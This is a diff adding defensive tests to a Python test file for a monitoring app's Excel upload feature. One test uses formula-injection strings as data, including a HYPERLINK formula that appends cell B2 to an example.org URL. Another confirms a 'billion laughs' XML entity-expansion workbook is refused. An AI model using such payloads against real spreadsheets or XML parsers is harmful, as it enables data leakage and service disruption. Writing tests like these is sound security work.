@@ -9,6 +9,7 @@ from hedef.core.models import AuditEntry
 from hedef.domain.monitoring import workbook as rw
 from hedef.monitoring.actions import SubmissionSave
 from hedef.monitoring.models import Submission
+from tests.fixtures.hostile import billion_laughs
 from tests.gold_plans import ECONOMY
 from tests.helpers.monitoring import report, save
 
@@ -92,6 +93,25 @@ def test_uploading_the_same_workbook_twice_changes_nothing(focal, cycle):
     assert (again.saved, again.issues) == ([], [])
 
 
+@pytest.mark.parametrize(
+    "narrative", ['=HYPERLINK("https://example.org/?"&B2, "x")', "@SUM(A1)", "-2 days", "+1"]
+)
+def test_a_downloaded_workbook_uploaded_unchanged_keeps_a_formula_like_narrative(
+    focal, cycle, more_users, narrative
+):
+    """The narrative is a text cell: it reads back as written, so nothing is saved."""
+    saved = save(report(cycle, ECONOMY, "8.1.1.1"), more_users["focal_in"], narrative=narrative)
+    data = download(focal, cycle)
+    sheet = load_workbook(io.BytesIO(data))[M]
+    letter, _heading = rw.column_letter(M, "narrative")
+    cell = sheet[f"{letter}{row_of(data, '8.1.1.1')}"]
+    assert (cell.value, cell.data_type) == (narrative, "s")
+    result = upload(focal, cycle, data).context["result"]
+    assert (result.saved, result.issues) == ([], [])
+    after = report(cycle, ECONOMY, "8.1.1.1")
+    assert (after.narrative, after.version) == (narrative, saved.version)
+
+
 def test_row_errors_name_sheet_row_and_column_and_valid_rows_still_land(focal, cycle):
     data = download(focal, cycle)
     changes = {
@@ -145,6 +165,14 @@ def test_a_malformed_file_is_refused_naming_it(focal, cycle, data):
     response = upload(focal, cycle, data, name="bad.xlsx")
     assert response.status_code == 400
     assert response.context["refused"] == "bad.xlsx is not a readable Excel workbook."
+
+
+def test_a_workbook_whose_xml_expands_entities_is_refused_naming_it(focal, cycle):
+    """A "billion laughs" file gets the documented refusal, not a server error."""
+    data = billion_laughs(download(focal, cycle), "xl/worksheets/sheet3.xml")
+    response = upload(focal, cycle, data, name="lol.xlsx")
+    assert response.status_code == 400
+    assert "lol.xlsx declares XML entities" in response.context["refused"]
 
 
 def test_an_oversized_file_is_refused_before_reading(focal, cycle, settings):
